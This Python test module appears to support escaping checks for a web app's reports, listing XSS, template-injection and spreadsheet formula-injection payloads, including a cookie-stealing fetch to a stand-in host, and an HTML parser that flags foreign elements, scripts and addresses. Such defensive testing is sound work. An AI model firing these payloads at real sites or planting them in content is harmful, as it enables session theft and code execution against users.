"""What somebody might write into a report to run in a reader's browser, and an eye that sees whether it would.

A page may hold just the scripts, addresses and elements that pages of ours are made of. Whatever a payload says
must stand on it as text, sign for sign.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

HAND_MADE = (
    "<script>alert(1)</script>",
    "</script><script src=//x.example></script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<style>@import'//x.example'</style>",
    "<form action=//x.example><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)//",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "--><script>alert(1)</script><!--",
    "<!--<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "{{ 71993*89989 }}",
    "{% print 71993*89989 %}",
    "{{ sitting.form_token }}",
    "{{ self.__init__.__globals__ }}",
    "${71993*89989} #{71993*89989} <%= 71993*89989 %>",
    "%(num)d %s %(form_token)s",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '=HYPERLINK("http://x.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＜script＞alert(1)＜/script＞",
    "شكرا <b>bold</b> \u200f<i>x</i>",
)

BREAKOUTS = (
    "{}",
    '">{}',
    "'>{}",
    "-->{}<!--",
    "</textarea>{}",
    "</title></head>{}",
    "</script>{}<script>",
    "`>{}",
    "]]>{}",
    "\u2028{}",
    "Zamfira {} said",
    "</select></form>{}",
    "<x y='{}'>",
)
"""Ways out of the place in which the words stand."""

VECTORS = (
    "<script>fetch('//x.example/'+document.cookie)</script>",
    "<script src=//x.example/a.js></script>",
    "<img src=//x.example/i.png onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=//x.example/u.svg#x></svg>",
    "<video poster=//x.example/p.png><source onerror=alert(1)></video>",
    "<audio src=//x.example/a.mp3 onloadstart=alert(1)>",
    "<iframe src=//x.example></iframe>",
    "<a href=javas&#99;ript:alert(1)>x</a>",
    "<a ping=//x.example/ping href=/>x</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<div style=background:url(//x.example/b.png)>x</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<keygen autofocus onfocus=alert(1)>",
    "<picture><source srcset=//x.example/s.png><img></picture>",
    "<link rel=prefetch href=//x.example/>",
    "<object><param name=src value=//x.example></object>",
)
"""What would run, or ask somebody outside."""

PAYLOADS = (*HAND_MADE, *(way.format(vector) for way in BREAKOUTS for vector in VECTORS))
BUNDLES = tuple(PAYLOADS[at : at + 15] for at in range(0, len(PAYLOADS), 15))
"""All of them, so many as one report is asked to carry."""

_ELEMENTS = """
html head meta title link script body a header p nav ul li form input label select option button main footer h1 h2 h3
section ol span div details summary mark table caption thead tbody tr th td dl dt dd fieldset legend strong bdi code
pre dialog textarea
"""
_ATTRIBUTES = """
lang dir charset name content rel defer class id aria-label aria-current aria-labelledby aria-describedby aria-invalid
method type value for selected checked required autocomplete spellcheck tabindex role scope title data-at data-end
data-sign data-likely rows open disabled hidden accesskey
"""
ELEMENTS = frozenset(_ELEMENTS.split())
ADDRESSES = frozenset({"href", "src", "action", "formaction", "data-away"})
ATTRIBUTES = ADDRESSES | frozenset(_ATTRIBUTES.split())
METAS = frozenset({"viewport", "referrer", "form-token", None})


@dataclass
class Eye(HTMLParser):
    """Reads a page as a browser does, and notes everything that pages of ours are not made of."""

    seen: list[str] = field(default_factory=list)
    words: list[str] = field(default_factory=list)
    values: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element: known, with known attributes, and addresses of our own."""
        said = dict(attrs)
        if tag not in ELEMENTS:
            self.seen.append(f"element {tag}")
        self.seen += [f"attribute {name} of {tag}" for name in said if name not in ATTRIBUTES]
        self.seen += [
            f"address in {name} of {tag}"
            for name, value in said.items()
            if name in ADDRESSES and not str(value).startswith(("/", "#"))
        ]
        self.seen += [
            f"address in {n} of {tag}" for n, v in said.items() if n in ADDRESSES and "//" in str(v)
        ]
        if tag == "script" and not str(said.get("src")).startswith("/static/"):
            self.seen.append("script")
        if tag == "meta" and (said.get("name") not in METAS or "http-equiv" in said):
            self.seen.append("meta")
        self.values += [str(value) for value in said.values()]

    def handle_comment(self, data: str) -> None:
        """Pages of ours have no comments."""
        self.seen.append("comment")

    def handle_data(self, data: str) -> None:
        """Words as they are read."""
        self.words.append(data)


def look(page: str) -> Eye:
    """What a browser would make of the page."""
    eye = Eye()
    eye.feed(page)
    eye.close()
    return eye
